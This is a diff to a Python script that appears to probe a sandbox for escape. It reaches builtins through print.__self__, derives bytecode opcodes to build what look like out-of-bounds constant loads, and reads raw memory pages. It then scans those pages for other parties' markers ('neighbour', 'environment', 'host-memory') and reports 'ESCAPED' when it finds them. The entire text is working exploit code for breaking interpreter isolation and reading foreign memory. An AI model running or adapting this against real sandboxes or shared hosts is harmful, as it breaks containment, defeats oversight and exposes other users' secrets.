@@ -24,18 +24,20 @@ def window(address):
 
 
 kept = []
-wide = print.__self__.compile("[x, " + ", ".join(f"'c{n}'" for n in range(300)) + ", x]", "many", "eval").co_code
-extended, load = next(
-    (wide[n], wide[n + 2]) for n in range(0, len(wide) - 4, 2) if wide[n + 1] == 1 and wide[n + 3] == 0 and wide[n] != wide[n + 2]
-)
+wide = print.__self__.compile("x" + "".join(f" + 'c{n}'" for n in range(310)), "many", "eval").co_code
+place = next(n for n in range(0, len(wide), 2) if wide[n + 1] == 1 and wide[n + 3] == 43)
+extended, load = wide[place], wide[place + 2]
 code = (lambda: None).__code__.replace(co_consts=(None, "x"))
 
 
 def tick(ctx):
     gc = print.__self__.__import__("gc")
     gc.unfreeze()
-    pages = sorted({id(thing) // 4096 for thing in gc.get_objects()})[::3]
+    planted = ["planted-%024x" % number for number in range(100)]
+    pages = sorted({id(thing) // 4096 for thing in [*gc.get_objects(), *planted]})
     found = set()
-    for page in pages[:4000]:
-        found.update(re.findall(rb"(?:neighbour|environment|host-memory|state|file)-[0-9a-f]{24}", window(page * 4096)))
-    print(len(pages), "pages", "ESCAPED" if found else "nothing found", found)
+    for page in pages[-8000:]:
+        found.update(re.findall(rb"(?:planted|neighbour|environment|host-memory|state|file)-[0-9a-f]{24}", window(page * 4096)))
+    others = [text for text in found if not text.startswith(b"planted")]
+    print("read", len(pages), "pages and found", len(found) - len(others), "texts of our own")
+    print("ESCAPED: found" if others else "nothing of others", others)
